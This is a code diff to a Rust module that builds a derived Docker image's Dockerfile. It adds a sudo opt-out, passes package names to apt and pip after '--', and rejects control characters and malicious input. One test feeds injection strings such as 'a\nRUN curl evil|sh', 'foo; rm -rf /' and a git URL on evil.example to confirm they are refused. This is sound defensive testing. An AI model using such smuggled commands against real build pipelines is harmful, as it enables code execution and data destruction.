@@ -4,7 +4,7 @@
 //! The official images have no Jupyter and no sshd and run as root. The derived image adds the
 //! mode's tools (skipped when the base has them: the checks run inside the build), the
 //! profile's extra apt/pip packages, and a user whose UID/GID match the host user, with
-//! passwordless sudo. The image's default user stays root: sshd needs it, and the other modes
+//! passwordless sudo unless the profile says `sudo: false`. The image's default user stays root: sshd needs it, and the other modes
 //! set the container's user at create time.
 //!
 //! Corporate networks: the proxy variables are Docker's predefined build args (`HTTP_PROXY`,
@@ -24,8 +24,10 @@
 
 use sha2::{Digest, Sha256};
 
+use crate::error::{Error, Result};
 use crate::identity::User;
 use crate::modes::ContainerFile;
+use crate::package_name::{check_apt, check_pip};
 use crate::profile::{Mode, Packages};
 use crate::project::{hex, slug};
 
@@ -68,16 +70,18 @@ pub struct Recipe<'a> {
     pub mode: Mode,
     pub packages: &'a Packages,
     pub user: &'a User,
+    /// Passwordless sudo for the user (the profile's `sudo`).
+    pub sudo: bool,
 }
 
 impl Recipe<'_> {
     /// `ptenv/<base tag>-<hash>`: the same base image and inputs give the same tag, so a second
     /// `up` finds the image and builds nothing.
-    pub fn tag(&self) -> String {
+    pub fn tag(&self) -> Result<String> {
         let mut h = Sha256::new();
         h.update(self.base_id.as_bytes());
         h.update(b"\n");
-        h.update(self.dockerfile().as_bytes());
+        h.update(self.dockerfile()?.as_bytes());
         let hash = hex(&h.finalize());
         let (repo, tag) = crate::registry::reference::split_reference(self.base);
         // A locked base (`repo@sha256:…`) is named by its short digest.
@@ -86,18 +90,36 @@ impl Recipe<'_> {
             .map_or(tag, |hex| &hex[..hex.len().min(12)]);
         let name = repo.rsplit('/').next().unwrap_or(repo);
         let base = slug(&format!("{name}-{tag}"));
-        format!("ptenv/{base}-{}", &hash[..12])
+        Ok(format!("ptenv/{base}-{}", &hash[..12]))
     }
 
     /// The Dockerfile. One `RUN`, so the CA bundle is created and deleted in the same layer.
     /// Commands are joined with `;` under `set -e`, never `&&`: a failure inside an `&&` list
     /// does not stop the shell, and a missing package would pass unnoticed.
-    pub fn dockerfile(&self) -> String {
+    ///
+    /// Package names reach apt-get and pip as quoted words collected in the positional
+    /// parameters and passed after `--`: never split by the shell, never read as options.
+    /// Every text from outside (a profile, the base's name) is checked here once more, so no
+    /// newline can end the `RUN` line and start an instruction of its own.
+    pub fn dockerfile(&self) -> Result<String> {
+        self.check()?;
         let u = self.user;
-        let mut apt: Vec<String> = vec!["sudo".into()];
+        let mut apt: Vec<String> = Vec::new();
+        if self.sudo {
+            apt.push("sudo".into());
+        }
         apt.extend(self.packages.apt.iter().cloned());
         let mut script = vec![
             "set -e".to_string(),
+            // The image's own environment, for root's login shells where no command of root's
+            // rewrites it at start (Jupyter and the shell start as the user): without the
+            // build's args, which may carry a CA, a proxy or an index URL with a password.
+            format!(
+                "ptenv_env=$(unset {CA_FLAG} {CA_ARG} {} {} {}; export -p)",
+                PIP_ARGS.join(" "),
+                PROXY_ARGS.join(" "),
+                crate::modes::LOCAL_VARIABLES
+            ),
             // The CA bundle (when given) for apt, pip and anything using OpenSSL.
             // The image's own system bundle plus the certificates it lacks.
             format!(
@@ -107,21 +129,28 @@ impl Recipe<'_> {
                  REQUESTS_CA_BUNDLE=/tmp/ptenv-ca.pem; \
                  APT_CA='-o Acquire::https::CAInfo=/tmp/ptenv-ca.pem'; else APT_CA=''; fi"
             ),
-            // apt packages not yet installed; sshd only when the base has none.
-            format!(
-                "need=''; for p in {}; do dpkg -s \"$p\" >/dev/null 2>&1 || need=\"$need $p\"; done",
-                apt.iter().map(|p| shell_word(p)).collect::<Vec<_>>().join(" ")
-            ),
+            // apt packages not yet installed, collected in the positional parameters; sshd
+            // only when the base has none.
+            "set --".to_string(),
         ];
+        if !apt.is_empty() {
+            script.push(format!(
+                "for p in {}; do dpkg -s -- \"$p\" >/dev/null 2>&1 || set -- \"$@\" \"$p\"; done",
+                apt.iter()
+                    .map(|p| shell_word(p))
+                    .collect::<Vec<_>>()
+                    .join(" ")
+            ));
+        }
         if self.mode == Mode::Ssh {
             script.push(
-                "command -v sshd >/dev/null 2>&1 || [ -x /usr/sbin/sshd ] || need=\"$need openssh-server\""
+                "command -v sshd >/dev/null 2>&1 || [ -x /usr/sbin/sshd ] || set -- \"$@\" openssh-server"
                     .into(),
             );
         }
         script.push(
-            "if [ -n \"$need\" ]; then apt-get $APT_CA update -q \
-             ; DEBIAN_FRONTEND=noninteractive apt-get $APT_CA install -y -q --no-install-recommends $need \
+            "if [ $# -gt 0 ]; then apt-get $APT_CA update -q \
+             ; DEBIAN_FRONTEND=noninteractive apt-get $APT_CA install -y -q --no-install-recommends -- \"$@\" \
              ; rm -rf /var/lib/apt/lists/*; fi"
                 .into(),
         );
@@ -154,7 +183,8 @@ impl Recipe<'_> {
                 script.push(format!("set -- \"$@\" {}", shell_word(p)));
             }
             script.push(
-                "if [ $# -gt 0 ]; then \"$PY\" -m pip install --no-cache-dir -q \"$@\"; fi".into(),
+                "if [ $# -gt 0 ]; then \"$PY\" -m pip install --no-cache-dir -q -- \"$@\"; fi"
+                    .into(),
             );
         }
         if self.mode == Mode::Jupyter {
@@ -184,14 +214,27 @@ impl Recipe<'_> {
             name = u.name,
             home = u.home
         ));
-        script.push(format!(
-            "echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ptenv; chmod 0440 /etc/sudoers.d/ptenv",
-            name = u.name
-        ));
+        if self.sudo {
+            script.push(format!(
+                "echo '{name} ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/ptenv; chmod 0440 /etc/sudoers.d/ptenv",
+                name = u.name
+            ));
+        } else {
+            // No sudo: neither ptenv's rule nor the admin groups a reused base user may be in.
+            script.push(format!(
+                "rm -f /etc/sudoers.d/ptenv; for g in sudo admin wheel; do \
+                 if id -nG {name} | tr ' ' '\\n' | grep -qx \"$g\"; then gpasswd -d {name} \"$g\" >/dev/null; fi; done",
+                name = u.name
+            ));
+        }
         // ptenv's own files for every container of the image (see `modes::image_files`).
         for f in crate::modes::image_files(u) {
             script.push(write_file(&f));
         }
+        script.push(format!(
+            "printf '%s\\n' \"$ptenv_env\" > {}",
+            crate::modes::ENVIRONMENT_FILE
+        ));
         script.push("rm -f /tmp/ptenv-ca.pem".into());
 
         let mut out = String::new();
@@ -215,7 +258,37 @@ impl Recipe<'_> {
         out.push_str("RUN ");
         out.push_str(&script.join(" ; \\\n    "));
         out.push('\n');
-        out
+        Ok(out)
+    }
+
+    /// The recipe's texts from outside: package names as the profile's reader checks them,
+    /// and nothing with a line break or another control character.
+    fn check(&self) -> Result<()> {
+        let bad = |what: &str, value: &str, why: String| {
+            Error::new(format!(
+                "cannot write the derived image's Dockerfile: {what} {value:?} {why}"
+            ))
+            .hint("fix the profile (ptenv.yaml or ~/.config/ptenv/config.yaml) and run the command again")
+        };
+        for p in &self.packages.apt {
+            check_apt(p).map_err(|m| bad("the apt package", p, m))?;
+        }
+        for p in &self.packages.pip {
+            check_pip(p).map_err(|m| bad("the pip package", p, m))?;
+        }
+        let texts = [
+            ("the base image", self.base),
+            ("the base image's ID", self.base_id),
+            ("the base image's user", self.base_user.unwrap_or("")),
+            ("the user name", &self.user.name),
+            ("the user's home", &self.user.home),
+        ];
+        for (what, value) in texts {
+            if value.chars().any(char::is_control) {
+                return Err(bad(what, value, "contains a control character".into()));
+            }
+        }
+        Ok(())
     }
 }
 
@@ -264,6 +337,7 @@ mod tests {
             mode,
             packages,
             user,
+            sudo: true,
         }
     }
 
@@ -272,33 +346,41 @@ mod tests {
         let none = Packages::default();
         let user = User::for_ids(1234, 1300);
         let r = recipe(Mode::Shell, &none, &user);
-        let tag = r.tag();
+        let tag = r.tag().unwrap();
         assert!(
             tag.starts_with("ptenv/pytorch-2-6-0-cuda12-4-cudnn9-runtime-"),
             "{tag}"
         );
-        assert_eq!(tag, recipe(Mode::Shell, &none, &user).tag());
+        assert_eq!(tag, recipe(Mode::Shell, &none, &user).tag().unwrap());
         let other_base = Recipe {
             base_id: "sha256:def",
             ..r.clone()
         };
-        assert_ne!(other_base.tag(), tag);
-        assert_ne!(recipe(Mode::Jupyter, &none, &user).tag(), tag);
+        assert_ne!(other_base.tag().unwrap(), tag);
+        assert_ne!(recipe(Mode::Jupyter, &none, &user).tag().unwrap(), tag);
         let pkgs = Packages {
             apt: vec!["git".into()],
             pip: vec![],
         };
-        assert_ne!(recipe(Mode::Shell, &pkgs, &user).tag(), tag);
-        assert_ne!(recipe(Mode::Shell, &none, &User::for_ids(0, 0)).tag(), tag);
+        assert_ne!(recipe(Mode::Shell, &pkgs, &user).tag().unwrap(), tag);
+        assert_ne!(
+            recipe(Mode::Shell, &none, &User::for_ids(0, 0))
+                .tag()
+                .unwrap(),
+            tag
+        );
         // A locked base by digest: its short digest in the name.
         let locked = Recipe {
             base: "127.0.0.1:5000/ptenv-fixture/pytorch@sha256:9f3c1a2b3c4d5e6f00112233445566778899aabbccddeeff0011223344556677",
             ..r.clone()
         };
         assert!(
-            locked.tag().starts_with("ptenv/pytorch-9f3c1a2b3c4d-"),
+            locked
+                .tag()
+                .unwrap()
+                .starts_with("ptenv/pytorch-9f3c1a2b3c4d-"),
             "{}",
-            locked.tag()
+            locked.tag().unwrap()
         );
     }
 
@@ -306,18 +388,18 @@ mod tests {
     fn modes_add_their_tools_only_when_missing() {
         let none = Packages::default();
         let user = User::for_ids(1234, 1300);
-        let j = recipe(Mode::Jupyter, &none, &user).dockerfile();
+        let j = recipe(Mode::Jupyter, &none, &user).dockerfile().unwrap();
         assert!(
             j.contains("import jupyterlab' >/dev/null 2>&1 || set -- \"$@\" 'jupyterlab'"),
             "{j}"
         );
         assert!(j.contains("import ipykernel"));
         assert!(!j.contains("openssh-server"));
-        let s = recipe(Mode::Ssh, &none, &user).dockerfile();
+        let s = recipe(Mode::Ssh, &none, &user).dockerfile().unwrap();
         assert!(s.contains("command -v sshd"));
         assert!(s.contains("openssh-server"));
         assert!(s.contains("mkdir -p /run/sshd"));
-        let sh = recipe(Mode::Shell, &none, &user).dockerfile();
+        let sh = recipe(Mode::Shell, &none, &user).dockerfile().unwrap();
         assert!(!sh.contains("pip install"));
         assert!(sh.contains("useradd -m -u 1234 -g 1300 -s /bin/bash -d /home/dev dev"));
         assert!(sh.contains("dev ALL=(ALL) NOPASSWD:ALL"));
@@ -331,27 +413,114 @@ mod tests {
     fn the_ca_is_made_and_removed_in_one_run_and_packages_are_quoted() {
         let pkgs = Packages {
             apt: vec!["git".into()],
-            pip: vec!["numpy>=2".into(), "it's".into()],
+            pip: vec!["numpy>=2".into(), "pywin32; os_name == 'nt'".into()],
         };
         let user = User::for_ids(1000, 1000);
-        let d = recipe(Mode::Shell, &pkgs, &user).dockerfile();
+        let d = recipe(Mode::Shell, &pkgs, &user).dockerfile().unwrap();
         assert_eq!(d.matches("\nRUN ").count(), 1, "{d}");
         assert!(
             !d.contains("&&"),
             "`set -e` ignores failures inside && lists: {d}"
         );
         let run = d.split("\nRUN ").nth(1).unwrap();
+        // Root's environment file gets the image's environment, never a build arg.
+        let saved = run
+            .split(" ; \\\n    ")
+            .find(|c| c.starts_with("ptenv_env=$(unset "))
+            .unwrap();
+        for arg in [CA_FLAG, CA_ARG].iter().chain(&PIP_ARGS).chain(&PROXY_ARGS) {
+            assert!(saved.contains(&format!(" {arg} ")), "{arg}: {saved}");
+        }
+        assert!(
+            run.contains("printf '%s\\n' \"$ptenv_env\" > /etc/ptenv/environment"),
+            "{run}"
+        );
         assert!(run.contains("> /tmp/ptenv-ca.pem"));
         assert!(run.trim_end().ends_with("rm -f /tmp/ptenv-ca.pem"));
         assert!(d.contains("for p in 'sudo' 'git'; do"));
         assert!(d.contains("set -- \"$@\" 'numpy>=2'"));
-        assert!(d.contains("set -- \"$@\" 'it'\\''s'"));
+        assert!(d.contains("set -- \"$@\" 'pywin32; os_name == '\\''nt'\\'''"));
         assert!(d.contains(
             "\nARG PTENV_CA PTENV_CA_PEM PIP_INDEX_URL PIP_EXTRA_INDEX_URL PIP_TRUSTED_HOST\n"
         ));
         assert!(
-            !d.contains("HTTP_PROXY"),
+            !d.lines()
+                .any(|l| l.starts_with("ARG ") && l.contains("HTTP_PROXY")),
             "proxies are predefined build args"
+        );
+    }
+
+    #[test]
+    fn package_names_reach_apt_and_pip_as_single_words_after_double_dash() {
+        let pkgs = Packages {
+            apt: vec!["git".into(), "libc6:amd64=2.36-9".into()],
+            pip: vec!["numpy >= 2".into()],
+        };
+        let user = User::for_ids(1000, 1000);
+        let d = recipe(Mode::Ssh, &pkgs, &user).dockerfile().unwrap();
+        assert!(
+            d.contains("for p in 'sudo' 'git' 'libc6:amd64=2.36-9'; do dpkg -s -- \"$p\" >/dev/null 2>&1 || set -- \"$@\" \"$p\"; done"),
+            "{d}"
+        );
+        assert!(d.contains("|| set -- \"$@\" openssh-server"), "{d}");
+        assert!(
+            d.contains("install -y -q --no-install-recommends -- \"$@\""),
+            "{d}"
+        );
+        assert!(!d.contains("$need"), "no word-split list of names: {d}");
+        assert!(d.contains("set -- \"$@\" 'numpy >= 2'"), "{d}");
+        assert!(d.contains("pip install --no-cache-dir -q -- \"$@\""), "{d}");
+    }
+
+    #[test]
+    fn hostile_texts_never_reach_the_dockerfile() {
+        let user = User::for_ids(1000, 1000);
+        for (apt, pip) in [
+            ("--allow-unauthenticated", "numpy"),
+            ("foo; rm -rf /", "numpy"),
+            ("a\nRUN curl evil|sh", "numpy"),
+            ("git", "-e git+https://evil.example/x.git"),
+            ("git", "--index-url=http://evil"),
+            ("git", "a\nRUN curl evil|sh"),
+        ] {
+            let pkgs = Packages {
+                apt: vec![apt.into()],
+                pip: vec![pip.into()],
+            };
+            let r = recipe(Mode::Shell, &pkgs, &user);
+            let e = r.dockerfile().unwrap_err().to_string();
+            let bad = if apt == "git" { pip } else { apt };
+            assert!(e.contains(&format!("{bad:?}")), "{e}");
+            assert!(r.tag().is_err());
+        }
+        let none = Packages::default();
+        let mut evil = User::for_ids(1000, 1000);
+        evil.name = "dev\nRUN curl evil|sh".into();
+        let e = recipe(Mode::Shell, &none, &evil).dockerfile().unwrap_err();
+        assert!(e.to_string().contains("the user name"), "{e}");
+        let base = Recipe {
+            base: "pytorch/pytorch:2.6\nRUN id",
+            ..recipe(Mode::Shell, &none, &user)
+        };
+        assert!(base.dockerfile().is_err());
+    }
+
+    #[test]
+    fn sudo_false_installs_no_sudo_and_grants_none() {
+        let none = Packages::default();
+        let user = User::for_ids(1000, 1000);
+        let off = Recipe {
+            sudo: false,
+            ..recipe(Mode::Shell, &none, &user)
+        };
+        let d = off.dockerfile().unwrap();
+        assert!(!d.contains("NOPASSWD"), "{d}");
+        assert!(!d.contains("'sudo'"), "{d}");
+        assert!(d.contains("rm -f /etc/sudoers.d/ptenv"), "{d}");
+        assert!(d.contains("gpasswd -d dev"), "{d}");
+        assert_ne!(
+            off.tag().unwrap(),
+            recipe(Mode::Shell, &none, &user).tag().unwrap()
         );
     }
 
@@ -359,7 +528,7 @@ mod tests {
     fn ptenv_s_files_are_baked_in_with_their_bytes_mode_and_owner() {
         let none = Packages::default();
         let user = User::for_ids(1234, 1300);
-        let d = recipe(Mode::Shell, &none, &user).dockerfile();
+        let d = recipe(Mode::Shell, &none, &user).dockerfile().unwrap();
         for f in crate::modes::image_files(&user) {
             assert!(d.contains(&write_file(&f)), "{} in {d}", f.path);
         }
@@ -413,6 +582,7 @@ mod tests {
                 ..recipe(Mode::Shell, &none, &user)
             }
             .dockerfile()
+            .unwrap()
         };
         for root in ["", "root", "0", "0:0", "root:root"] {
             assert!(!with(Some(root)).contains("\nUSER "), "{root:?}");
